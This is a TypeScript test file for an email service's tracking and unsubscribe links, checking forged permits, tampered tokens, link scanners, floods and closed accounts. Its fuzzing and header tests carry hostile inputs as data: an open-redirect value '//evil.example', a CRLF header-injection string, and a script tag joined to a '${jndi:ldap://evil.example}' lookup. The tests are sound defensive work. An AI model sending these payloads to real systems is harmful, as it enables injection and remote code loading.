/**
 * links.test - the links of real mails, over HTTP and a store: what a stranger, a neighbour and a flood can do with them
 */
import fc from 'fast-check'
import { beforeEach, describe, expect, test } from 'vitest'
import { deriveTokenKey } from '../../../src/correlate/token-keys.ts'
import { mintToken, type TokenPurpose } from '../../../src/correlate/token.ts'
import type { HttpServer } from '../../../src/http/server/http-server.ts'
import type { AccountSettings } from '../../../src/ledger/account-settings.ts'
import { rebuild } from '../../../src/service/admin/rebuild.ts'
import type { Context } from '../../../src/service/context.ts'
import { createRegister } from '../../../src/service/submit/register.ts'
import type { Engine } from '../../../src/store/engine/engine.ts'
import { listRecentDeliveriesByAddress } from '../../../src/store/mail/deliveries.ts'
import { hashAddress } from '../../../src/correlate/address-hash.ts'
import { clickUrl } from '../../../src/tracking/tracking-link.ts'
import { FEEDBACK, makeContext, MASTER, type Clock } from '../../support/context.ts'
import { engines } from '../../support/engines.ts'
import { makeHttpApp } from '../../support/services.ts'

const T0 = Date.UTC(2026, 10, 20, 12)
const DAY = 86_400_000
const BY = { account: 1, apiUser: 'one', ip: '203.0.113.5' }
const JOE = 'joe@example.org'
const TARGET = 'https://shop.example/sale?a=1&b=2'
const FORM = 'application/x-www-form-urlencoded'

describe.each(engines)('$kind', ({ open }) => {
  let engine: Engine
  let context: Context
  let web: HttpServer
  const clock: Clock = { now: T0 }

  async function start(settings: Partial<AccountSettings> = {}): Promise<void> {
    clock.now = T0
    ;({ engine } = await open())
    context = await makeContext(engine, clock, [settings, {}])
    web = await makeHttpApp(context)
  }
  beforeEach(() => start())

  type Links = { readonly deliveryId: string; readonly unsubscribe: string; readonly open: string; readonly click: string }
  const keyOf = (account: number): Uint8Array => deriveTokenKey(MASTER, account, 0)
  const tokenOf = (deliveryId: string, purpose: TokenPurpose, account = 1): string =>
    mintToken({ key: keyOf(account), keyIndex: 0, deliveryId, purpose, domain: FEEDBACK }) ?? ''
  const clickPathOf = (token: string, account = 1): string => clickUrl({ base: '', token, key: keyOf(account), target: TARGET }) ?? ''

  async function register(recipient = JOE, from = 'Example News <news@example.com>'): Promise<Links & { readonly status: unknown }> {
    const message = { from, subject: 'x', label: null, broadcast: null, emailType: 'batch', headers: {} } as const
    const { recipients } = await createRegister(context)(BY, { ...message, recipients: [{ recipient, contactTypes: null }] })
    const token = /\/u\/([a-z2-7]{30})/.exec(recipients[0]?.headers['List-Unsubscribe'] ?? '')?.[1] ?? ''
    const deliveryId = token.slice(1, 14)
    const tracking = tokenOf(deliveryId, 'tracking')
    const { status, subStatus } = recipients[0] ?? {}
    return {
      deliveryId,
      unsubscribe: token,
      open: `/o/${tracking}.gif`,
      click: clickPathOf(tracking),
      status: [status, subStatus],
    }
  }
  const get = (url: string, method: 'GET' | 'HEAD' = 'GET') => web.inject({ method, url, headers: { 'user-agent': 'Mozilla/5.0' } })
  const post = (token: string, payload: string) =>
    web.inject({ method: 'POST', url: `/u/${token}`, headers: { 'content-type': FORM, 'user-agent': 'Mozilla/5.0' }, payload })
  const entries = async (): Promise<readonly string[]> =>
    (await engine.read.all('select list, removed_at, unsubscribe_type from suppressions where account_id = 1 order by list')).map(
      (row) => `${String(row['list'])} ${row['removed_at'] === null ? 'in force' : 'removed'} ${String(row['unsubscribe_type'])}`,
    )
  const engagement = async (): Promise<readonly number[]> => {
    const rows = await listRecentDeliveriesByAddress(engine.read, [{ account: 1, addressHash: hashAddress(JOE) ?? '' }], 1)
    return rows.flatMap(({ opens, clicks }) => [opens, clicks])
  }
  const permitIn = (body: string): string => /name="permit" value="([^"]+)"/.exec(body)?.[1] ?? ''

  test('a reader opens and clicks', async () => {
    const mail = await register()
    expect((await get(mail.open)).statusCode).toBe(200)
    const click = await get(mail.click)
    expect([click.statusCode, click.headers.location]).toEqual([302, TARGET])
    expect(await engagement()).toEqual([1, 1])
  })

  test('a reader unsubscribes with a reason, later sends get 402, and he undoes it within 24 hours', async () => {
    const mail = await register()
    const page = await get(`/u/${mail.unsubscribe}`)
    expect(page.body).toContain('<bdi>Example News</bdi>')
    expect(page.body).toContain('<bdi>j***@example.org</bdi>')
    expect(page.body).not.toContain(JOE)
    const done = await post(mail.unsubscribe, 'action=unsubscribe&reason=1')
    expect(await entries()).toEqual(['unsubscribe in force 1'])
    expect((await register()).status).toEqual([4, 402])
    clock.now += DAY - 1
    const undone = await post(mail.unsubscribe, `action=undo&permit=${permitIn(done.body)}`)
    expect([undone.statusCode, await entries()]).toEqual([200, ['unsubscribe removed 1']])
    expect((await register()).status).toEqual([18, null])
    // Used once, and too old.
    expect((await post(mail.unsubscribe, `action=undo&permit=${permitIn(done.body)}`)).statusCode).toBe(409)
    expect((await rebuild(context, { check: true, onProgress: () => undefined })).differences).toEqual([])
  })

  test('an undo ends after 24 hours, and nobody makes one', async () => {
    const [mail, other] = [await register(), await register('ann@example.org')]
    const permit = permitIn((await post(mail.unsubscribe, 'action=unsubscribe&reason=0')).body)
    const forged = [
      ...permit.split('').map((character, at) => `${permit.slice(0, at)}${character === '1' ? '2' : '1'}${permit.slice(at + 1)}`),
      '',
      permit.slice(0, -1),
      `${permit}A`,
      `0${permit}`,
      'x'.repeat(10_000),
    ]
    for (const each of forged.filter((text) => text !== permit))
      expect((await post(mail.unsubscribe, `action=undo&permit=${encodeURIComponent(each)}`)).statusCode).toBe(409)
    // The permit of one link is none for another.
    expect((await post(other.unsubscribe, `action=undo&permit=${permit}`)).statusCode).toBe(409)
    clock.now += DAY
    expect((await post(mail.unsubscribe, `action=undo&permit=${permit}`)).statusCode).toBe(409)
    expect(await entries()).toEqual(['unsubscribe in force 0'])
  })

  test('whoever has a forwarded link and unsubscribes again cannot undo what the reader did', async () => {
    const mail = await register()
    await post(mail.unsubscribe, 'List-Unsubscribe=One-Click')
    expect(permitIn((await post(mail.unsubscribe, 'action=unsubscribe&reason=0')).body)).toBe('')
    expect(await entries()).toEqual(['unsubscribe in force 0'])
  })

  test('an undo leaves alone what somebody changed since', async () => {
    const mail = await register()
    const permit = permitIn((await post(mail.unsubscribe, 'action=unsubscribe&reason=0')).body)
    expect((await post(mail.unsubscribe, `action=undo&permit=${permit}`)).statusCode).toBe(200)
    await post(mail.unsubscribe, 'List-Unsubscribe=One-Click')
    expect((await post(mail.unsubscribe, `action=undo&permit=${permit}`)).statusCode).toBe(409)
    expect(await entries()).toEqual(['unsubscribe in force 0'])
  })

  test.each([
    ['no longer wanted', 0, {}, ['unsubscribe in force 0']],
    ['never subscribed', 1, {}, ['unsubscribe in force 1']],
    ['spam', 2, {}, ['complaint in force null', 'unsubscribe in force 2']],
    ['fraud', 3, {}, ['complaint in force null', 'unsubscribe in force 3']],
    ['spam, not a complaint by setting', 2, { complaintByReason: false }, ['unsubscribe in force 2']],
    ['spam, where complaints must be signed', 2, { complaintProof: 'both' }, ['unsubscribe in force 2']],
    ['fraud, a type that no list takes', 3, { complaintTypes: ['abuse'] }, ['unsubscribe in force 3']],
  ] as const)('the reason %s', async (_title, reason, settings, want) => {
    await start({ ...settings, complaintTypes: [...('complaintTypes' in settings ? settings.complaintTypes : ['abuse', 'fraud'])] })
    const mail = await register()
    const { body } = await post(mail.unsubscribe, `action=unsubscribe&reason=${reason}`)
    expect(await entries()).toEqual(want)
    await post(mail.unsubscribe, `action=undo&permit=${permitIn(body)}`)
    expect(await entries()).toEqual(want.map((each) => each.replace('in force', 'removed')))
    expect((await rebuild(context, { check: true, onProgress: () => undefined })).differences).toEqual([])
  })

  test('the page shows the name of the account instead of From', async () => {
    await start({ pageName: 'Shop & Co' })
    const mail = await register()
    expect((await get(`/u/${mail.unsubscribe}`)).body).toContain('<bdi>Shop &amp; Co</bdi>')
  })

  test('a link scanner that fetches every link, with GET and HEAD, unsubscribes nobody', async () => {
    const mail = await register()
    const urls = [`/u/${mail.unsubscribe}`, mail.open, mail.click, `/u/${mail.unsubscribe}?List-Unsubscribe=One-Click`]
    for (const url of urls) for (const method of ['GET', 'HEAD'] as const) expect((await get(url, method)).statusCode).toBeLessThan(400)
    // A scanner that submits forms sends what it made up, or the choices without the field that the button adds.
    for (const payload of ['', 'reason=0', 'reason=2&permit=', 'List-Unsubscribe=', 'unsubscribe=1', 'action=', '{"action":"unsubscribe"}'])
      expect((await post(mail.unsubscribe, payload)).statusCode).toBe(200)
    expect(await entries()).toEqual([])
  })

  test('a change of any character of a click link is a page with 400', async () => {
    const { click } = await register()
    const changed = click
      .split('')
      .flatMap((character, at) =>
        character === '/' || at < 3 ? [] : [`${click.slice(0, at)}${character === 'b' ? 'c' : 'b'}${click.slice(at + 1)}`],
      )
    const responses = await Promise.all(changed.map((url) => get(url)))
    expect(responses.filter(({ statusCode, headers }) => statusCode !== 400 || headers.location !== undefined)).toEqual([])
    for (const url of [click.slice(0, -1), `${click}A`, `${click}=`]) expect((await get(url)).statusCode).toBe(400)
    expect(await engagement()).toEqual([0, 0])
  })

  test('whatever bytes of a link change, nobody is led elsewhere, and nothing is recorded', async () => {
    const mail = await register()
    const change = fc.record({
      link: fc.constantFrom(mail.open, mail.click, `/u/${mail.unsubscribe}`),
      at: fc.nat(),
      removed: fc.nat(3),
      inserted: fc.oneof(
        fc.uint8Array({ maxLength: 3 }),
        fc
          .constantFrom('/', '..', '%ff', '%00', '//evil.example', '%2f', '%0d%0aLocation:%20x', '?', '#', ';')
          .map((text) => Buffer.from(text)),
      ),
    })
    await fc.assert(
      fc.asyncProperty(change, async ({ link, at, removed, inserted }) => {
        const start = 3 + (at % (link.length - 3))
        const text = Array.from(inserted, (byte) => String.fromCodePoint(byte)).join('')
        const url = link.slice(0, start) + encodeURI(text).replaceAll('#', '%23') + link.slice(start + removed)
        const isSame = url.split('?')[0]?.toLowerCase() === link.toLowerCase()
        const { statusCode, headers, body } = await get(url)
        const { location } = headers
        if (isSame) return location === undefined || location === TARGET
        return location === undefined && (statusCode === 400 || statusCode === 404 || link === mail.open) && !body.includes('evil.example')
      }),
      { numRuns: 400 },
    )
    expect(await entries()).toEqual([])
  })

  test('tokens of other purposes, of a neighbour and of a foreign key open and click nothing', async () => {
    const { deliveryId } = await register()
    const tokens = [
      ...(['unsubscribe', 'feedback', 'return-path', 'message-id'] as const).map((purpose) => tokenOf(deliveryId, purpose)),
      tokenOf(deliveryId, 'tracking', 2),
      tokenOf(deliveryId, 'tracking').slice(0, 29),
    ]
    for (const token of tokens) {
      expect((await get(`/o/${token}.gif`)).rawPayload).toHaveLength(43)
      expect((await get(clickPathOf(token))).statusCode).toBe(400)
      expect((await get(clickPathOf(token, 2))).statusCode).toBe(400)
    }
    expect(await engagement()).toEqual([0, 0])
  })

  test('a tracking link shows no unsubscribe page, and unsubscribes nobody', async () => {
    const { deliveryId } = await register()
    const token = tokenOf(deliveryId, 'tracking')
    expect([(await get(`/u/${token}`)).statusCode, (await post(token, 'List-Unsubscribe=One-Click')).statusCode]).toEqual([404, 404])
    expect(await entries()).toEqual([])
  })

  test('after 400 days a click still redirects, and a link whose mail is stored still unsubscribes', async () => {
    const mail = await register()
    clock.now += 500 * DAY
    expect([(await get(mail.open)).statusCode, (await get(mail.click)).headers.location]).toEqual([200, TARGET])
    expect((await post(mail.unsubscribe, 'List-Unsubscribe=One-Click')).statusCode).toBe(200)
    expect(await entries()).toEqual(['unsubscribe in force 0'])
  })

  test('the redirects of a closed account end', async () => {
    const mail = await register()
    await engine.tx((db) => db.run('update accounts set closed_at = 1 where account_id = 1'))
    context.accountCache.invalidate()
    // The accounts are read again beside the first request.
    await expect.poll(async () => (await get(mail.click)).statusCode).toBe(400)
  })

  test('a flood on one link is answered and counts once', async () => {
    const mail = await register()
    const responses = await Promise.all(Array.from({ length: 300 }, (_, n) => get(n % 2 === 0 ? mail.open : mail.click)))
    expect(new Set(responses.map(({ statusCode }) => statusCode))).toEqual(new Set([200, 302]))
    expect(await engagement()).toEqual([1, 1])
  })

  test('hostile headers are stored as text, and change no response', async () => {
    const mail = await register()
    const hostile = '"><script>\u0007${jndi:ldap://evil.example}'
    const headers = { 'user-agent': hostile, referer: hostile, 'accept-language': hostile, 'sec-purpose': hostile, cookie: hostile }
    for (const url of [mail.open, mail.click, `/u/${mail.unsubscribe}`, '/c/x/y/z']) {
      const response = await web.inject({ method: 'GET', url, headers })
      expect([response.body.includes('jndi'), response.headers['set-cookie']]).toEqual([false, undefined])
    }
    expect(await engagement()).toEqual([1, 1])
  })
})
